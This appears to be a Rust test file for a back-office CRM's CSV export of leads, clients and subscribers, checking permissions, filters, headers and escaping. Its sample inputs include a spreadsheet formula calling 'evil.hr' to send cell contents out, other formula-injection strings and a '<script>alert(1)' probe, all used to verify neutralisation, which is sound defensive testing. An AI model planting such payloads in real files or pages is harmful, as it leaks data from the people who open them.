//! Exports of lists in the back office.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "in a test a panic is the report"
)]

mod office;

use std::sync::{Arc, Mutex};

use actix_web::http::{StatusCode, Version};
use exit3_domain::exports::cell;
use exit3_domain::leads::{Lead, LeadFilter, LeadId, LeadOwner, LeadStatus, LeadWork, NewLead};
use exit3_domain::paging::{Count, Slice};
use exit3_domain::staff::{Language, Role, StaffId};
use exit3_domain::subscribers::{Subscriber, SubscriberId};
use exit3_ports::StoreError;
use exit3_ports::clients::MockClientRepository;
use exit3_ports::leads::MockLeadRepository;
use exit3_ports::subscribers::MockSubscriberRepository;
use office::{ME, Office, get, lead, post};

const EXPORT: &str = "/backend/admin/leads/export/";

const ODD: [&str; 8] = [
    "=HYPERLINK(\"https://evil.hr/?\"&A1)",
    "\t=1+1",
    "-2+3\r\n\"quoted\"; 'single', a,b;c",
    "@SUM(1)\n",
    "\r\n",
    "a\0b \u{1f600} \u{202e}čćžšđ",
    " + ",
    "\"",
];

/// Leads whose texts a spreadsheet, or a reader of CSV, might take for something else.
fn odd_leads() -> Vec<Lead> {
    let odd = |(id, text): (i64, &&str)| {
        let text = || (*text).to_owned();
        let plain = lead(Some(ME));
        Lead {
            id: LeadId(id),
            details: NewLead {
                full_name: text(),
                position: text(),
                company_name: Some(text()),
                phone_number: Some("+385911234567".to_owned()),
                email: None,
                notes: Some(text()),
                ..plain.details
            },
            work: LeadWork { owner: Some(ME), next_step: Some(text()), next_step_at: None },
            ..plain
        }
    };
    (1..).zip(&ODD).map(odd).collect()
}

/// An office whose only step of leads is this one, and which accepts events.
fn office_with(role: Role, found: Result<Vec<Lead>, StoreError>) -> (Office, Seen) {
    let mut office = Office::of(role, None, None);
    let seen = Seen::default();
    let mut leads = MockLeadRepository::new();
    let filter = Arc::clone(&seen.filter);
    leads.expect_walk().return_once(move |given, _, _| {
        *filter.lock().unwrap() = Some(given.clone());
        found.map(|rows| Slice { rows, has_next: false, has_previous: false })
    });
    office.repositories.leads = leads;
    let verbs = Arc::clone(&seen.verbs);
    office.repositories.events.expect_note().returning(move |event, act| {
        assert_eq!(act.author.actor.to_string(), "staff:ana");
        verbs.lock().unwrap().push(event.verb.to_string());
        Ok(())
    });
    (office, seen)
}

/// What the mocks have seen.
#[derive(Default)]
struct Seen {
    filter: Arc<Mutex<Option<LeadFilter>>>,
    verbs: Arc<Mutex<Vec<String>>>,
}

fn form(columns: &[&str], more: &str) -> String {
    let columns: String = columns.iter().map(|name| format!("column={name}&")).collect();
    format!("{columns}{more}")
}

/// The texts of a file, read as an importer reads it.
fn read(file: &str, separator: u8) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new();
    let reader = reader.delimiter(separator).has_headers(false);
    let mut reader = reader.from_reader(file.trim_start_matches('\u{feff}').as_bytes());
    let texts =
        |record: csv::StringRecord| record.iter().map(|text| cell::read(text).to_owned()).collect();
    reader.records().map(|record| texts(record.unwrap())).collect()
}

#[actix_web::test]
async fn a_file_has_every_text_as_it_is_stored() {
    let columns = ["id", "full_name", "company_name", "phone_number", "email", "notes", "owner"];
    for (more, separator) in [("separator=comma", b','), ("separator=semicolon&mark=1", b';')] {
        let (office, seen) = office_with(Role::Manager, Ok(odd_leads()));
        let answer = office.answer(post(EXPORT, &form(&columns, more))).await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
        let disposition = "attachment; filename=\"leads-2026-09-21.csv\"";
        assert_eq!(answer.header("content-disposition"), disposition);
        assert!(answer.header("content-type").starts_with("text/csv"));
        assert_eq!(answer.header("x-content-type-options"), "nosniff");
        assert_eq!(answer.header("cache-control"), "no-store");
        assert_eq!(answer.body.starts_with('\u{feff}'), more.contains("mark"));
        for cell in ["\"=", "\"+", "\"-", "\"@", "\"\r"] {
            assert!(!answer.body.contains(&format!("\r\n{cell}")), "{cell}");
            assert!(!answer.body.contains(&format!("{}{cell}", char::from(separator))), "{cell}");
        }
        let rows = read(&answer.body, separator);
        assert_eq!(rows[0], columns);
        for (row, (id, text)) in rows[1..].iter().zip((1..).zip(&ODD)) {
            let id = i64::to_string(&id);
            assert_eq!(*row, [id.as_str(), text, text, "+385911234567", "", text, "ana"]);
        }
        assert_eq!(rows.len(), ODD.len() + 1);
        assert_eq!(*seen.verbs.lock().unwrap(), ["lead.exported", "lead.export_ended"]);
    }
}

#[actix_web::test]
async fn a_file_has_the_leads_of_the_list() {
    let path =
        format!("{EXPORT}?q=Ana+HO&status=new&owner=none&until=2026-09-20&sort=next_step_at");
    let (office, seen) = office_with(Role::Owner, Ok(Vec::new()));
    let answer = office.answer(post(&path, &form(&["id"], ""))).await;
    assert_eq!(answer.body, "\"id\"\r\n");
    let filter = seen.filter.lock().unwrap().take().unwrap();
    assert_eq!(filter.words, ["ana", "ho"]);
    assert_eq!(filter.statuses, Some(vec![LeadStatus::New]));
    assert_eq!(filter.owner, Some(LeadOwner::Nobody));
    assert_eq!(filter.created_before.unwrap().to_rfc3339(), "2026-09-21T00:00:00+00:00");
    assert!(filter.due.is_some(), "the list in the order of next steps has only leads with one");
}

#[actix_web::test]
async fn the_form_tells_what_is_exported() {
    for (language, texts) in [
        (Language::English, ["Export leads", "1,000+", "Contacted", "Download CSV"]),
        (Language::Croatian, ["Izvoz upita", "1.000+", "Kontaktiran", "Preuzmi CSV"]),
    ] {
        let path = format!("{EXPORT}?q=%3Cscript%3Ealert(1)&status=contacted&owner=1&due=1");
        let answer = Office::of(Role::Manager, None, Some(language)).answer(get(&path)).await;
        assert_eq!(answer.status, StatusCode::OK);
        for text in texts {
            assert!(answer.body.contains(text), "{text}: {}", answer.body);
        }
        assert!(!answer.body.contains("<script>alert") && answer.body.contains("Ana &#60;b&#62;"));
        let is_semicolon = answer.body.contains("value=\"semicolon\" checked");
        assert_eq!(is_semicolon, language == Language::Croatian);
        assert!(!answer.body.contains("data-total"), "the total is not known");
        // The form is sent to the same query.
        assert!(answer.body.contains("status=contacted&#38;owner=1&#38;due=1\" data-export"));
    }
}

#[actix_web::test]
async fn a_list_leads_to_its_export() {
    for (list, query) in [
        ("leads", "status=new&after=7&size=25"),
        ("clients", "category=web_dev&after=7&size=25"),
        ("subscribers", "subscribed=false&after=7&size=25"),
    ] {
        let path = format!("/backend/admin/{list}/?{query}");
        let query = query.replace("&after=7", "").replace('&', "&#38;");
        for (role, may) in [(Role::Manager, true), (Role::Sales, false), (Role::Viewer, false)] {
            let answer = Office::of(role, None, None).answer(get(&path)).await;
            let link = format!("href=\"/backend/admin/{list}/export/?{query}\"");
            assert_eq!(answer.body.contains(&link), may, "{role}: {}", answer.body);
            assert_eq!(answer.body.contains("/export/"), may, "{role} {list}");
        }
    }
}

#[actix_web::test]
async fn sales_and_viewers_export_nothing() {
    for role in [Role::Sales, Role::Viewer] {
        let (office, seen) = office_with(role, Ok(odd_leads()));
        let answers = office.answers(vec![get(EXPORT), post(EXPORT, &form(&["id"], ""))]).await;
        for answer in answers {
            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{role}");
        }
        assert_eq!(*seen.verbs.lock().unwrap(), [""; 0], "{role}");
    }
}

#[actix_web::test]
async fn a_form_without_columns_comes_back_with_its_choices() {
    let mut office = Office::of(Role::Manager, None, None);
    office.repositories.events.expect_note().never();
    let answer = office.answer(post(EXPORT, "separator=semicolon&mark=1")).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    assert!(answer.body.contains("Choose at least one column."), "{}", answer.body);
    assert!(answer.body.contains("value=\"semicolon\" checked"), "{}", answer.body);
    assert!(answer.body.contains("name=\"mark\" value=\"1\" checked"), "{}", answer.body);
    assert!(!answer.body.contains("value=\"full_name\" checked"), "{}", answer.body);
}

#[actix_web::test]
async fn a_form_comes_back_after_signing_in_again() {
    let form = format!(
        "_username=ana&_password={}&_who=1&_form=1&column=email&separator=comma",
        office::PASSWORD
    );
    let request = post(EXPORT, &form).insert_header(("Cookie", "exit3=gone"));
    let answer = Office::that_signs_in().answer(request).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert!(answer.body.contains("nothing is downloaded yet"), "{}", answer.body);
    assert!(answer.body.contains("value=\"email\" checked"), "{}", answer.body);
    assert!(!answer.body.contains("value=\"notes\" checked"), "{}", answer.body);
}

#[actix_web::test]
async fn a_known_number_of_rows_is_the_goal_of_the_progress() {
    let mut office = Office::of(Role::Owner, None, None);
    let mut leads = MockLeadRepository::new();
    leads.expect_page().returning(|_, _, _| {
        let slice = Slice { rows: Vec::new(), has_next: false, has_previous: false };
        let glance = exit3_domain::paging::Glance { slice, is_cut_short: false };
        let count = Count::Exact(123_456);
        Ok(exit3_domain::leads::LeadPage { glance, count, by_status: Vec::new() })
    });
    office.repositories.leads = leads;
    let answer = office.answer(get(EXPORT)).await;
    assert!(answer.body.contains("data-total=\"123456\""), "{}", answer.body);
    assert!(answer.body.contains("123,456"), "{}", answer.body);
}

#[actix_web::test]
async fn a_database_that_is_away_is_a_page_and_no_file() {
    let (office, seen) = office_with(Role::Owner, Err(StoreError::Unavailable("away".into())));
    let answer = office.answer(post(EXPORT, &form(&["id"], ""))).await;
    assert_eq!(answer.status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(answer.header("content-disposition"), "");
    assert!(answer.body.contains("name=\"column\" value=\"id\""), "{}", answer.body);
    assert_eq!(*seen.verbs.lock().unwrap(), ["lead.exported"]);
}

#[actix_web::test]
async fn a_file_that_breaks_off_is_not_taken_for_a_whole_one() {
    let (mut office, _) = office_with(Role::Owner, Ok(Vec::new()));
    let mut leads = MockLeadRepository::new();
    leads.expect_walk().times(1).returning(|_, _, _| {
        Ok(Slice { rows: vec![lead(Some(StaffId(4)))], has_next: true, has_previous: false })
    });
    leads.expect_walk().returning(|_, _, _| Err(StoreError::Unavailable("away".into())));
    office.repositories.leads = leads;
    let answer = office.answer(post(EXPORT, &form(&["id"], ""))).await;
    assert_eq!(answer.status, StatusCode::OK);
    assert!(!answer.is_whole);
}

#[actix_web::test]
async fn a_response_whose_end_tells_nothing_is_refused() {
    let (office, seen) = office_with(Role::Owner, Ok(odd_leads()));
    let request = post(EXPORT, &form(&["id"], "")).version(Version::HTTP_10);
    let answer = office.answer(request).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    assert_eq!(*seen.verbs.lock().unwrap(), [""; 0]);
}

#[actix_web::test]
async fn subscribers_are_exported_with_the_filters_of_their_list() {
    const PATH: &str = "/backend/admin/subscribers/export/?q=iva&subscribed=false";
    let (mut office, seen) = office_with(Role::Manager, Ok(Vec::new()));
    let mut subscribers = MockSubscriberRepository::new();
    subscribers.expect_walk().return_once(|filter, _, _| {
        assert_eq!((filter.is_subscribed, filter.words.join(" ").as_str()), (Some(false), "iva"));
        let email = "-iva@acme.hr".to_owned();
        let iva = Subscriber { id: SubscriberId(7), email, is_subscribed: false };
        Ok(Slice { rows: vec![iva], has_next: false, has_previous: false })
    });
    office.repositories.subscribers = subscribers;
    let answer = office.answer(post(PATH, &form(&["email", "is_subscribed"], ""))).await;
    let disposition = "attachment; filename=\"subscribers-2026-09-21.csv\"";
    assert_eq!(answer.header("content-disposition"), disposition, "{}", answer.body);
    let rows = read(&answer.body, b',');
    assert_eq!(rows, [["email", "is_subscribed"], ["-iva@acme.hr", "false"]]);
    assert_eq!(*seen.verbs.lock().unwrap(), ["subscriber.exported", "subscriber.export_ended"]);
    let page = Office::of(Role::Manager, None, None).answer(get(PATH)).await;
    for text in ["Export subscribers", "Unsubscribed", "subscribed=false\" data-export"] {
        assert!(page.body.contains(text), "{text}: {}", page.body);
    }
}

#[actix_web::test]
async fn clients_are_exported_with_the_filters_of_their_list() {
    const PATH: &str = "/backend/admin/clients/export/?team=T-1&contract=true&category=web_dev";
    let (mut office, seen) = office_with(Role::Owner, Ok(Vec::new()));
    let mut clients = MockClientRepository::new();
    clients.expect_walk().return_once(|filter, _, _| {
        assert_eq!(filter.team_id.as_deref(), Some("T-1"));
        assert_eq!(filter.has_contract, Some(true));
        assert_eq!(filter.category_words().unwrap(), ["web_dev"]);
        Ok(Slice { rows: vec![office::client()], has_next: false, has_previous: false })
    });
    office.repositories.clients = clients;
    let answer = office.answer(post(PATH, &form(&["id", "category"], ""))).await;
    let disposition = "attachment; filename=\"clients-2026-09-21.csv\"";
    assert_eq!(answer.header("content-disposition"), disposition, "{}", answer.body);
    let client = office::client();
    let expected = [client.id.0.to_string(), client.details.category.to_string()];
    assert_eq!(read(&answer.body, b','), [["id", "category"].map(str::to_owned), expected]);
    assert_eq!(*seen.verbs.lock().unwrap(), ["client.exported", "client.export_ended"]);
    let page = Office::of(Role::Owner, None, None).answer(get(PATH)).await;
    for text in ["Export clients", "Web development", "T-1", "category=web_dev\" data-total"] {
        assert!(page.body.contains(text), "{text}: {}", page.body);
    }
}
